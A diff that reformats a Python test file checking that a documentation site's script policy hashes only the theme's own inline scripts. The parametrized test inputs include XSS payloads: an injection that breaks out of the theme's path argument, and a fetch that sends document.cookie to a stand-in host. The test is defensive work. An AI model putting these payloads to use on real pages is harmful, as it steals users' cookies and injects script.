@@ -1,5 +1,6 @@
 """The page policy allows the theme's own inline scripts, recognised by their shape in the theme's
 templates, and no other script, wherever it sits on the page."""
+
 from __future__ import annotations
 
 import base64
@@ -13,9 +14,11 @@ from bdw_guide.pages import Theme
 
 ROOT = Path(__file__).resolve().parent.parent
 THEME = ThemeScripts.from_dirs(Theme.of(ROOT).dirs)
-SCOPE = ('__md_scope=new URL("{base}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
-         '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
-         '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}')
+SCOPE = (
+    '__md_scope=new URL("{base}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
+    '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
+    '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}'
+)
 
 
 def scope(base: str) -> str:
@@ -30,10 +33,12 @@ def token(body: str) -> str:
 
 
 def page(head: str = "", nav: str = "", content: str = "", base: str = "../..") -> str:
-    return (f'<html><head><meta charset="utf-8"><script>{scope(base)}</script>'
-            f"<script>{OURS}</script><title>{head}</title>{head}</head><body><nav>{nav}</nav>"
-            f'<div class="md-content"><article class="md-content__inner">{content}</article></div>'
-            '<script id="__config" type="application/json">{}</script><script src="bundle.js"></script></body></html>')
+    return (
+        f'<html><head><meta charset="utf-8"><script>{scope(base)}</script>'
+        f"<script>{OURS}</script><title>{head}</title>{head}</head><body><nav>{nav}</nav>"
+        f'<div class="md-content"><article class="md-content__inner">{content}</article></div>'
+        '<script id="__config" type="application/json">{}</script><script src="bundle.js"></script></body></html>'
+    )
 
 
 def test_the_theme_scripts_are_read_from_the_templates_ours_included():
@@ -45,14 +50,17 @@ def test_only_the_theme_scripts_are_hashed():
     assert theme_script_hashes(page(), THEME) == [token(scope("../..")), token(OURS)]
 
 
-@pytest.mark.parametrize("planted", [
-    "window.__planted = 1",
-    "alert(document.domain)",
-    scope('x"),alert(1),("'),  # a theme script with something else where the path goes
-    scope("//elsewhere.example"),
-    OURS + ";alert(1)",
-    "fetch('//elsewhere.example/?'+document.cookie)",
-])
+@pytest.mark.parametrize(
+    "planted",
+    [
+        "window.__planted = 1",
+        "alert(document.domain)",
+        scope('x"),alert(1),("'),  # a theme script with something else where the path goes
+        scope("//elsewhere.example"),
+        OURS + ";alert(1)",
+        "fetch('//elsewhere.example/?'+document.cookie)",
+    ],
+)
 @pytest.mark.parametrize("where", ["head", "nav", "content"])
 def test_a_planted_script_is_never_hashed_wherever_it_lands(planted, where):
     html = page(**{where: f"<script>{planted}</script>"})
